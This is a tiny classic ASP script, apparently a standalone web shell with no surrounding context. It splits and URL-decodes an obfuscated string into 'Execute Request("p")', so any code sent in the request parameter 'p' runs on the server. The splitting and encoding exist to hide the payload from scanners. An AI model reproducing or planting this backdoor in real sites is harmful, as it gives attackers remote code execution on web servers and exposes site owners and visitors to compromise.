<%
Dim parts, i, code
parts = Split("Ex~ecu~te%20Req~uest%28%22p%22%29", "~")
For i = 0 To UBound(parts)
    code = code & parts(i)
Next
Execute(unescape(code))
%>
